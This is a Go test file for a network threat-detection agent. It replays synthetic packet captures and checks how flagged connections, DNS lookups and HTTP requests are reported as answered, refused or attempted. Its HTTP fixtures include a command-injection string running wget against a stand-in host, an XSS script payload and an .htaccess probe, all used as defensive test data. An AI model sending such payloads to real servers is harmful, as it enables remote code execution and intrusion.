package tests

import (
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"trailhound/agent"
	"trailhound/agent/event"
	board "trailhound/agent/heuristic"
	"trailhound/agent/suppress"
	. "trailhound/tests/corpus"
)

// told replays frames with outcomes and says of each event that leaves what it
// tells.
func told(t *testing.T, c *Case, window time.Duration, workers int) (lines []string, events []event.Event) {
	t.Helper()
	return toldBy(t, c, suppress.Options{Window: window, Outcomes: true}, workers)
}

func toldBy(t *testing.T, c *Case, opt suppress.Options, workers int) (lines []string, events []event.Event) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "case.pcapng")
	if err := os.WriteFile(file, Pcapng(c.Frames), 0o600); err != nil {
		t.Fatal(err)
	}
	rules := caseRules(t, c)
	gate := suppress.New(opt)
	r := agent.Replay{Files: []string{file}, Workers: workers, Rules: rules, Board: board.NewBoard(rules.Board()), Gate: gate,
		Sink: func(e event.Event) error { events = append(events, e); return nil }}
	if _, err := r.Run(t.Context()); err != nil {
		t.Fatal(err)
	}
	counts, sum, summaries, followUps := gate.Counts(), uint64(0), uint64(0), uint64(0)
	first := map[[16]byte]bool{}
	for i := range events {
		e := &events[i]
		sum += e.Aggregate.Count
		first[e.ID] = true
		if e.Aggregate.Summary {
			if !e.FollowUp() {
				summaries++
			}
			if !first[e.Aggregate.ID] {
				t.Errorf("a summary of nothing that was told: %s", line(e))
			}
		}
		if e.Aggregate.Count == 0 {
			followUps++
		}
		lines = append(lines, tale(e))
	}
	if sum != counts.Detected-counts.Suppressed || summaries != counts.Summaries || followUps != counts.FollowUps {
		t.Errorf("counts add up to %d, %d summaries, %d follow-ups: %+v", sum, summaries, followUps, counts)
	}
	if gate.Counts().Held != 0 || gate.Counts().Keys != 0 || counts.Waiting != 0 {
		t.Errorf("held at the end: %+v", counts)
	}
	unique(t, events)
	return lines, events
}

// tale is what an event tells of an outcome.
func tale(e *event.Event) string {
	s := fmt.Sprintf("%s %s x%d", e.Code, e.Trail, e.Aggregate.Count)
	if e.Outcome != event.OutcomeNone {
		s += " " + e.Outcome.String()
	}
	if e.DNS.HasRCode {
		s += fmt.Sprintf(" rcode %d", e.DNS.RCode)
	}
	for _, a := range e.DNS.Answers {
		s += " " + a
	}
	if e.HTTP.Status != 0 {
		s += fmt.Sprintf(" status %d", e.HTTP.Status)
	}
	return s
}

// refusal is an ICMP error about a packet.
func refusal(about Packet) Segment {
	if about.Data[0]>>4 == 4 {
		return Other(1, "\x03\x03\x00\x00\x00\x00\x00\x00"+string(about.Data))
	}
	return Other(58, "\x01\x04\x00\x00\x00\x00\x00\x00"+string(about.Data))
}

func TestOutcome(t *testing.T) {
	const bad, other, router, bad6, me6 = "66.66.66.66", "93.184.216.34", "10.0.0.1", "dead::beef", "2001:db8::66"
	syn := func(port uint16) Frame { return eth(client, bad, Syn(port, 80)) }
	back := func(flags uint8) Frame { return eth(bad, client, TCP(80, 50001, flags, "")) }
	// Both directions of another conversation.
	others := []Stamped{At(0, eth(client, other, Syn(50100, 443))), At(0, eth(other, client, TCP(443, 50100, SYN|ACK, "")))}
	over := At(61, eth(client, other, Data(50100, 443, "later")))
	dns := func(name string) string { return Query(Ask(name)) }
	asks := func(name string) Frame { return eth(client, resolver, UDP(50000, 53, dns(name))) }
	says := func(reply string) Frame { return eth(resolver, client, UDP(53, 50000, reply)) }
	get := eth(client, web, Data(50030, 80, Get("evil-url.example", "/bad/path")))
	response := func(status string) Frame {
		return eth(web, client, Data(80, 50030, "HTTP/1.1 "+status+"\r\nContent-Length: 0\r\n\r\n"))
	}
	late := func(second, ms int, f Frame) Stamped {
		return Stamped{Time: Start.Add(time.Duration(second)*time.Second + time.Duration(ms)*time.Millisecond), Frame: f}
	}
	datagram := IP(client, bad, UDP(50002, 9999, "no protocol at all"))
	datagram6 := IP(me6, bad6, UDP(50002, 9999, "no protocol at all"))
	const ip, ip6, name, url = "trail.ip 66.66.66.66 x", "trail.ip dead::beef x", "trail.dns evil-test-domain.com x", "trail.url evil-url.example/bad/path x"
	for _, c := range []struct {
		name   string
		frames []Stamped
		want   []string
	}{
		{"SYN and ACK", []Stamped{At(0, syn(50001)), At(1, back(SYN|ACK))}, []string{ip + "1", ip + "0 answered"}},
		{"RST", []Stamped{At(0, syn(50001)), At(1, back(RST|ACK))}, []string{ip + "1", ip + "0 refused"}},
		{"RST after an answer", []Stamped{At(0, syn(50001)), At(1, back(SYN|ACK)), At(3, back(RST))}, []string{ip + "1", ip + "0 answered"}},
		{"silence", append([]Stamped{At(0, syn(50001))}, append(others, over)...), []string{ip + "1", ip + "0 attempted"}},
		{"silence, seen before", append(slices.Clone(others), At(1, syn(50001)), At(62, syn(50001))), []string{ip + "1", ip + "0 attempted", ip + "1"}},
		{"silence, in one direction", []Stamped{At(0, syn(50001)), At(1, eth(client, other, Syn(1, 443))), over}, []string{ip + "1"}},
		{"silence, not for long enough", append([]Stamped{At(0, syn(50001))}, others...), []string{ip + "1"}},
		{"too late", append(slices.Clone(others), At(1, syn(50001)), At(62, back(SYN|ACK))), []string{ip + "1", ip + "0 attempted"}},
		{"another's answer", append(slices.Clone(others), At(0, syn(50001)), At(1, eth(bad, client, TCP(81, 50001, SYN|ACK, ""))), At(1, eth(bad, "10.0.0.67", TCP(80, 50001, SYN|ACK, ""))), over),
			[]string{ip + "1", ip + "0 attempted"}},
		{"repeats", []Stamped{At(0, syn(50001)), At(1, back(SYN|ACK)), At(5, syn(50002)), At(9, syn(50003)), over}, []string{ip + "1", ip + "2 answered"}},
		{"repeats in vain", append(slices.Clone(others), At(0, syn(50001)), At(5, syn(50002)), over), []string{ip + "1", ip + "1 attempted"}},
		{"repeats in vain, in one direction", []Stamped{At(0, syn(50001)), At(5, syn(50002)), over}, []string{ip + "1", ip + "1 unknown"}},
		{"one of several", []Stamped{At(0, syn(50001)), At(1, back(RST)), At(5, eth(client, bad, Syn(5, 443))), At(6, eth(bad, client, TCP(443, 5, SYN|ACK, ""))), over},
			[]string{ip + "1", ip + "1 answered"}},
		{"refused in the second window", []Stamped{At(0, syn(50001)), At(1, back(SYN|ACK)), At(5, syn(50002)), At(70, syn(50001)), At(71, back(RST)), At(200, eth(client, other, Syn(1, 443)))},
			[]string{ip + "1", ip + "1 answered", ip + "1 refused"}},

		{"name that is there", []Stamped{At(0, asks("evil-test-domain.com")), At(1, says(Answered(dns("evil-test-domain.com"), "192.0.2.7")))},
			[]string{name + "1", name + "0 answered rcode 0 192.0.2.7"}},
		{"name that is not", []Stamped{At(0, asks("evil-test-domain.com")), At(1, says(Reply(3, dns("evil-test-domain.com"))))}, []string{name + "1", name + "0 refused rcode 3"}},
		{"name that is refused", []Stamped{At(0, asks("evil-test-domain.com")), At(1, says(Reply(5, dns("evil-test-domain.com"))))}, []string{name + "1", name + "0 refused rcode 5"}},
		{"name without an answer", []Stamped{At(0, asks("evil-test-domain.com")), At(1, asks("clean.org")), At(2, says(Answered(dns("clean.org"), "192.0.2.7"))), over},
			[]string{name + "1", name + "0 attempted"}},
		{"name, resolver is not there", []Stamped{At(0, asks("evil-test-domain.com")), At(1, eth(resolver, client, refusal(IP(client, resolver, UDP(50000, 53, dns("evil-test-domain.com"))))))},
			[]string{name + "1", name + "0 refused"}},
		{"name over TCP", []Stamped{At(0, eth(client, resolver, Data(50000, 53, Stream(dns("evil-test-domain.com"))))),
			At(1, eth(resolver, client, TCP(53, 50000, ACK, ""))), At(2, eth(resolver, client, Data(53, 50000, Stream(Reply(2, dns("evil-test-domain.com"))))))},
			[]string{name + "1", name + "0 refused rcode 2"}},

		{"request", []Stamped{At(0, get), At(1, eth(web, client, TCP(80, 50030, ACK, ""))), At(2, response("404 Not Found"))}, []string{url + "1", url + "0 answered status 404"}},
		{"request, acknowledged", []Stamped{At(0, get), At(1, eth(web, client, TCP(80, 50030, ACK, "")))}, []string{url + "1", url + "0 answered"}},
		{"requests", []Stamped{At(0, get), At(1, response("404 Not Found")), At(5, get), At(6, response("200 OK"))}, []string{url + "1", url + "1 answered status 200"}},

		{"handshake, then a name", []Stamped{At(0, eth(client, bad, Syn(50001, 443))), late(0, 100, eth(bad, client, TCP(443, 50001, SYN|ACK, ""))),
			late(0, 200, eth(client, bad, Data(50001, 443, Record(ClientHello("evil-test-domain.com"))))), late(0, 300, eth(bad, client, TCP(443, 50001, ACK, "")))},
			[]string{ip + "1", name + "1", ip + "0 answered", name + "0 answered"}},
		{"handshake, then a name that is cut off", []Stamped{At(0, eth(client, bad, Syn(50001, 443))), late(0, 100, eth(bad, client, TCP(443, 50001, SYN|ACK, ""))),
			late(0, 200, eth(client, bad, Data(50001, 443, Record(ClientHello("evil-test-domain.com"))))), late(0, 300, eth(bad, client, TCP(443, 50001, RST, "")))},
			[]string{ip + "1", name + "1", ip + "0 answered", name + "0 refused"}},
		{"request, the response to another", []Stamped{At(0, get), At(1, eth(web, client, Data(80, 50031, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))), late(1, 100, response("404 Not Found"))},
			[]string{url + "1", url + "0 answered status 404"}},
		{"silence, the proof is old", append(slices.Clone(others), At(3700, syn(50001)), At(3770, eth(client, other, Data(50100, 443, "later")))), []string{ip + "1"}},
		{"silence, the proof was renewed", append(slices.Clone(others), At(3650, eth(client, other, Syn(50101, 443))), At(3651, eth(other, client, TCP(443, 50101, SYN|ACK, ""))), At(3700, syn(50001)),
			At(3770, eth(client, other, Data(50100, 443, "later")))), []string{ip + "1", ip + "0 attempted"}},
		{"silence, the routes changed", append(slices.Clone(others), At(3650, eth(client, other, Syn(50101, 443))), At(3700, syn(50001)), At(3701, syn(50002)),
			At(3770, eth(client, other, Data(50100, 443, "later")))), []string{ip + "1", ip + "1 unknown"}},
		{"silence as far as the end", append(slices.Clone(others), At(1, syn(50001)), At(8, eth(client, other, Data(50100, 443, "later")))), []string{ip + "1", ip + "0 attempted"}},

		{"datagram", []Stamped{At(0, datagram.Ethernet()), At(1, eth(bad, client, UDP(9999, 50002, "back")))}, []string{ip + "1", ip + "0 answered"}},
		{"datagram, port closed", []Stamped{At(0, datagram.Ethernet()), At(1, eth("10.0.0.9", client, refusal(datagram)))}, []string{ip + "1", ip + "0 refused"}},
		{"datagram, a router says", []Stamped{At(0, datagram.Ethernet()), At(1, eth(router, client, refusal(datagram)))}, []string{ip + "1", ip + "0 refused"}},
		{"datagram, about another", append(slices.Clone(others), At(0, datagram.Ethernet()), At(1, eth(router, client, refusal(IP(client, bad, UDP(50002, 9998, "no protocol"))))), over),
			[]string{ip + "1", ip + "0 attempted"}},
		{"IPv6", []Stamped{At(0, eth(me6, bad6, Syn(5, 80))), At(1, eth(bad6, me6, TCP(80, 5, SYN|ACK, "")))}, []string{ip6 + "1", ip6 + "0 answered"}},
		{"IPv6, a router says", []Stamped{At(0, datagram6.Ethernet()), At(1, eth("2001:db8::1", me6, refusal(datagram6)))}, []string{ip6 + "1", ip6 + "0 refused"}},
		{"multicast", append(slices.Clone(others), At(0, eth(client, "224.0.0.251", UDP(5353, 5353, dns("evil-test-domain.com")))), over), []string{name + "1"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			slices.SortStableFunc(c.frames, func(a, b Stamped) int { return a.Time.Compare(b.Time) })
			for _, workers := range []int{1, 2, 4, 8} {
				got, _ := told(t, &Case{Trails: fixture, Frames: c.frames}, time.Minute, workers)
				if !slices.Equal(got, c.want) {
					t.Errorf("%d workers:\n%s\nwant\n%s", workers, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
				}
			}
		})
	}
}

// TestOutcomeOfConnections: an answer is to the connection that asked, and a
// status to the request before it.
func TestOutcomeOfConnections(t *testing.T) {
	const attacker = "198.51.100.9"
	ms := func(n int, f Frame) Stamped {
		return Stamped{Time: Start.Add(time.Duration(n) * time.Millisecond), Frame: f}
	}
	rce, xss, config := "/x?q=;wget%20http:/a.example/x.sh", "/x?q=<script>alert(1)</script>", "/a/.htaccess"
	asks := func(at int, port uint16, target string) Stamped {
		return ms(at, eth(attacker, web, Data(port, 80, Get("shop.example", target))))
	}
	says := func(at int, port uint16, status string) Stamped {
		return ms(at, eth(web, attacker, Data(80, port, "HTTP/1.1 "+status+"\r\nContent-Type: text/html\r\n\r\nx")))
	}
	acknowledges := func(at int, port uint16) Stamped { return ms(at, eth(web, attacker, TCP(80, port, ACK, ""))) }
	resets := func(at int, port uint16) Stamped { return ms(at, eth(web, attacker, TCP(80, port, RST|ACK, ""))) }
	for _, c := range []struct {
		name   string
		frames []Stamped
		want   []string // code, outcome, status of each follow-up
		more   []string // when nothing is folded
	}{
		{"three at once", []Stamped{asks(0, 51000, rce), asks(1, 51001, xss), asks(2, 51002, config), acknowledges(3, 51000), resets(4, 51002), says(5, 51001, "403 Forbidden"), says(6, 51000, "200 OK")},
			[]string{"http.rce answered 200", "http.xss answered 403", "http.config refused 0"}, nil},
		{"one after another", []Stamped{asks(0, 51000, rce), says(5, 51000, "200 OK"), asks(3000, 51001, xss), says(3005, 51001, "403 Forbidden"), asks(6000, 51002, config), resets(6005, 51002)},
			[]string{"http.rce answered 200", "http.xss answered 403", "http.config refused 0"}, nil},
		{"on one connection", []Stamped{asks(0, 51000, rce), acknowledges(3, 51000), says(5, 51000, "200 OK"), asks(9, 51000, xss), acknowledges(12, 51000), says(15, 51000, "403 Forbidden"),
			asks(20, 51000, config), resets(25, 51000)}, []string{"http.rce answered 200", "http.xss answered 403", "http.config refused 0"}, nil},
		{"on one connection, a response was missed", []Stamped{asks(0, 51000, rce), acknowledges(3, 51000), asks(9, 51000, xss), says(15, 51000, "403 Forbidden")},
			[]string{"http.rce answered 0", "http.xss answered 403"}, nil},
		{"go on", []Stamped{asks(0, 51000, rce), says(3, 51000, "100 Continue"), says(5, 51000, "200 OK")}, []string{"http.rce answered 200"}, nil},
		{"the same again does not hide it", []Stamped{asks(0, 51000, rce), says(5, 51000, "200 OK"), asks(9, 51001, rce), says(15, 51001, "404 Not Found")}, []string{"http.rce answered 200"}, []string{"http.rce answered 404"}},
	} {
		for _, window := range []time.Duration{time.Minute, 0} {
			for _, workers := range []int{1, 4} {
				var got []string
				for _, e := range second(told(t, &Case{Frames: append(c.frames, At(90, eth(client, web, Data(50100, 443, "later"))))}, window, workers)) {
					if e.Aggregate.Summary {
						got = append(got, fmt.Sprintf("%s %s %d", e.Code, e.Outcome, e.HTTP.Status))
					}
				}
				if window == 0 { // in the order of their answers
					c.want = append(c.want, c.more...)
					c.more = nil
					slices.Sort(c.want)
					slices.Sort(got)
				}
				if !slices.Equal(got, c.want) {
					t.Errorf("%s, window %v, %d workers:\n%s\nwant\n%s", c.name, window, workers, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
				}
			}
		}
	}
}

// TestOutcomeAfterRefusal: what is refused first and answered then got through.
func TestOutcomeAfterRefusal(t *testing.T) {
	const bad = "66.66.66.66"
	ms := func(n int, p Packet) Stamped {
		return Stamped{Time: Start.Add(time.Duration(n) * time.Millisecond), Frame: p.Ethernet()}
	}
	syn := IP(client, bad, Syn(50001, 443))
	back := func(flags uint8) Packet { return IP(bad, client, TCP(443, 50001, flags, "")) }
	q := Query(Ask("evil-test-domain.com"))
	ask := func(port uint16) Packet { return IP(client, resolver, UDP(port, 53, q)) }
	say := func(port uint16, reply string) Packet { return IP(resolver, client, UDP(53, port, reply)) }
	for _, c := range []struct {
		name   string
		frames []Stamped
		want   []string
		each   []string // when nothing is folded; nil: the same
	}{
		{"an RST that is made up, then the handshake", []Stamped{ms(0, syn), ms(20, back(RST)), ms(40, back(SYN|ACK))}, []string{"trail.ip 66.66.66.66 x1", "trail.ip 66.66.66.66 x0 answered"}, nil},
		{"another try after 500 ms", []Stamped{ms(0, syn), ms(20, back(RST|ACK)), ms(520, syn), ms(540, back(SYN|ACK))}, []string{"trail.ip 66.66.66.66 x1", "trail.ip 66.66.66.66 x0 answered"}, nil},
		{"refused again and again", []Stamped{ms(0, syn), ms(20, back(RST|ACK)), ms(520, syn), ms(540, back(RST|ACK))}, []string{"trail.ip 66.66.66.66 x1", "trail.ip 66.66.66.66 x0 refused"}, nil},
		{"SERVFAIL, then the answer", []Stamped{ms(0, ask(50000)), ms(20, say(50000, Reply(2, q))), ms(30, ask(50001)), ms(300, say(50001, Answered(q, "192.0.2.7")))},
			[]string{"trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x1 answered rcode 0 192.0.2.7"},
			[]string{"trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x0 answered rcode 0 192.0.2.7", "trail.dns evil-test-domain.com x0 answered rcode 0 192.0.2.7"}},
		{"an error that is made up, then the answer", []Stamped{ms(0, ask(50000)), ms(20, say(50000, Reply(3, q))), ms(30, say(50000, Answered(q, "192.0.2.7")))},
			[]string{"trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x0 answered rcode 0 192.0.2.7"}, nil},
	} {
		for _, window := range []time.Duration{time.Minute, 0} {
			got, _ := told(t, &Case{Trails: fixture, Frames: c.frames}, window, 1)
			if window == 0 && c.each != nil {
				c.want = c.each
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("%s, window %v:\n%s\nwant\n%s", c.name, window, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
			}
		}
	}
}

// TestOutcomeOfEach: without windows each event has a follow-up of its own, when
// it is answered or after a minute.
func TestOutcomeOfEach(t *testing.T) {
	const bad, other = "66.66.66.66", "93.184.216.34"
	syn := func(port uint16) Frame { return eth(client, bad, Syn(port, 80)) }
	const ip = "trail.ip 66.66.66.66 x"
	c := Case{Trails: fixture, Frames: []Stamped{
		At(0, syn(50001)), At(2, syn(50002)), At(3, eth(bad, client, TCP(80, 50001, SYN|ACK, ""))),
		At(5, syn(50003)), At(6, eth(bad, client, TCP(80, 50003, RST, ""))),
		At(10, query("evil-test-domain.com")), At(11, syn(50004)), At(75, eth(client, other, Data(1, 2, "later"))),
	}}
	want := []string{ip + "1", ip + "1", ip + "0 answered", ip + "1", "trail.dns evil-test-domain.com x1", ip + "1",
		ip + "0 attempted", ip + "0 refused", "trail.dns evil-test-domain.com x0 attempted", ip + "0 attempted"}
	for _, workers := range []int{1, 2, 4, 8} {
		got, events := told(t, &c, 0, workers)
		if !slices.Equal(got, want) {
			t.Errorf("%d workers:\n%s\nwant\n%s", workers, strings.Join(got, "\n"), strings.Join(want, "\n"))
			continue
		}
		for i, of := range map[int]int{2: 0, 6: 1, 7: 3, 8: 4, 9: 5} {
			if e := &events[i]; e.Aggregate.ID != events[of].ID || !e.Aggregate.Summary || e.Src != events[of].Src || !e.Time.Equal(events[of].Time) {
				t.Errorf("%d: follow-up of %s is %+v", i, line(&events[of]), e.Aggregate)
			}
		}
	}
}

// TestOutcomeOfServer: what a server's packet raised was answered.
func TestOutcomeOfServer(t *testing.T) {
	digest := sha1.Sum(Certificate("listed.example"))
	c := Case{Trails: plus(hex.EncodeToString(digest[:]) + ",c2 cert (malware)"),
		Frames: Each(eth(web, client, Data(443, 50001, ServerFlight(Certificate("listed.example")))),
			eth(web, client, Data(80, 50002, "HTTP/1.1 200 OK\r\nContent-Type: application/x-msdownload\r\n\r\nMZ")))}
	for _, e := range second(told(t, &c, time.Minute, 1)) {
		if e.Outcome != event.Answered || e.Aggregate.Count != 1 {
			t.Errorf("%s: %s", line(&e), e.Outcome)
		}
	}
}

func second[A, B any](_ A, b B) B { return b }

// TestOutcomeBounds: of what no longer fits nothing wrong is told.
func TestOutcomeBounds(t *testing.T) {
	const other = "93.184.216.34"
	c := Case{Frames: []Stamped{At(0, eth(client, other, Syn(50100, 443))), At(0, eth(other, client, TCP(443, 50100, SYN|ACK, "")))}}
	for i := range 9000 {
		c.Trails = append(c.Trails, fmt.Sprintf("66.66.%d.%d,malware (test)", i>>8, i&255))
		c.Frames = append(c.Frames, Stamped{Time: Start.Add(time.Second + time.Duration(i)*time.Microsecond), Frame: eth(client, fmt.Sprintf("66.66.%d.%d", i>>8, i&255), Syn(1, 80))})
	}
	for i := range 9000 {
		c.Frames = append(c.Frames, Stamped{Time: Start.Add(2*time.Second + time.Duration(i)*time.Microsecond), Frame: eth(fmt.Sprintf("66.66.%d.%d", i>>8, i&255), client, TCP(80, 1, SYN|ACK, ""))})
	}
	c.Frames = append(c.Frames, At(90, eth(client, other, Data(50100, 443, "later"))))
	_, events := told(t, &c, time.Minute, 1)
	n := 0
	for i := range events {
		switch {
		case events[i].Outcome == event.Answered:
			n++
		case events[i].Outcome != event.OutcomeNone:
			t.Fatalf("%s: %s", line(&events[i]), events[i].Outcome)
		}
	}
	if n < 3500 || n > 4096 {
		t.Errorf("%d answers found", n)
	}
}

// TestOutcomeWorkersAgree replays random mixes in which much is answered. The
// same is told of each event with any number of workers, and without outcomes
// the events are the same but for them.
func TestOutcomeWorkersAgree(t *testing.T) {
	for seed := range uint64(4) {
		frames := exchanges(rand.New(rand.NewPCG(seed, 7)), 800)
		c := Case{Trails: fixture, UserAgents: "masscan\n", Frames: frames}
		for _, window := range []time.Duration{0, time.Second, time.Minute} {
			t.Run(fmt.Sprintf("seed %d window %v held", seed, window), func(t *testing.T) {
				opt := suppress.Options{Window: window, Outcomes: true, FollowUps: event.Medium, Hold: true}
				_, want := toldBy(t, &c, opt, 1)
				for _, workers := range []int{2, 4, 8} {
					_, got := toldBy(t, &c, opt, workers)
					sameEvents(t, fmt.Sprintf("%d workers", workers), got, want)
				}
				// The same, but for outcomes, as without them, and in that order.
				_, plain := toldBy(t, &c, suppress.Options{Window: window}, 1)
				if len(plain) != len(want) {
					t.Fatalf("%d events, without outcomes %d", len(want), len(plain))
				}
				for i := range plain {
					if plain[i].ID != want[i].ID || plain[i].Aggregate.Count != want[i].Aggregate.Count {
						t.Fatalf("%d: %s, without outcomes %s", i, line(&want[i]), line(&plain[i]))
					}
				}
			})
			t.Run(fmt.Sprintf("seed %d window %v", seed, window), func(t *testing.T) {
				_, want := told(t, &c, window, 1)
				outcomes := map[event.Outcome]int{}
				for i := range want {
					outcomes[want[i].Outcome]++
				}
				if outcomes[event.Answered] < 20 || outcomes[event.Attempted] < 20 {
					t.Errorf("the mix is no test: %v", outcomes)
				}
				for _, workers := range []int{2, 4, 8} {
					_, got := told(t, &c, window, workers)
					sameEvents(t, fmt.Sprintf("%d workers", workers), got, want)
				}
			})
		}
	}
}

// exchanges makes n packets like those of the mix, of which most are answered in
// one way or another, sooner or later.
func exchanges(r *rand.Rand, n int) (all []Stamped) {
	at := Start
	for range n {
		at = at.Add(time.Duration(r.IntN(10)) * 100 * time.Millisecond)
		if r.IntN(50) == 0 {
			at = at.Add(time.Duration(r.IntN(300)) * time.Second)
		}
		client, server := fmt.Sprintf("10.0.0.%d", r.IntN(12)), pick(r, "66.66.66.66", "6.6.6.6", "198.51.100.53", "203.0.113.44", web, resolver)
		if r.IntN(6) == 0 {
			client, server = fmt.Sprintf("2001:db8::%d", 1+r.IntN(9)), "dead::beef"
		}
		sport, dport := uint16(50000+r.IntN(4)), pick[uint16](r, 80, 443, 8443)
		name := pick(r, "", "a.", "www.") + pick(r, "evil-test-domain.com", "evil-parent.com", "clean.org", "dga1.wildcard-test.com")
		var asks, says Segment
		switch r.IntN(4) {
		case 0:
			asks, says = Syn(sport, dport), TCP(dport, sport, pick[uint8](r, SYN|ACK, RST|ACK, ACK), "")
		case 1:
			q := Query(Ask(name))
			asks, says = UDP(sport, 53, q), UDP(53, sport, pick(r, Reply(uint8(r.IntN(6)), q), Answered(q, "192.0.2.1"), Answered(Query(Ask("clean.org")), "192.0.2.1")))
		case 2:
			asks = Data(sport, 80, Get(name, pick(r, "/", "/malicious-login.php"), "User-Agent: masscan/1"))
			says = pick(r, Data(80, sport, "HTTP/1.1 "+pick(r, "200 OK", "404 Not Found")+"\r\n\r\n"), TCP(80, sport, ACK, ""))
		default:
			asks, says = UDP(sport, dport, "datagram"), UDP(dport, sport, "datagram")
		}
		ask := IP(client, server, asks)
		all = append(all, Stamped{Time: at, Frame: linked(r, ask)})
		late := at.Add(time.Duration(r.IntN(1200)) * time.Millisecond)
		switch {
		case r.IntN(4) == 0:
			continue
		case r.IntN(6) == 0:
			from := pick(r, server, "10.0.0.254")
			if strings.Contains(client, ":") {
				from = pick(r, server, "2001:db8::fe")
			}
			all = append(all, Stamped{Time: late, Frame: IP(from, client, refusal(ask)).Ethernet()})
		default:
			all = append(all, Stamped{Time: late, Frame: linked(r, IP(server, client, says))})
		}
	}
	slices.SortStableFunc(all, func(a, b Stamped) int { return a.Time.Compare(b.Time) })
	for i := 10; i < len(all); i += 10 { // some are out of order
		all[i], all[i-3] = all[i-3], all[i]
	}
	return all
}
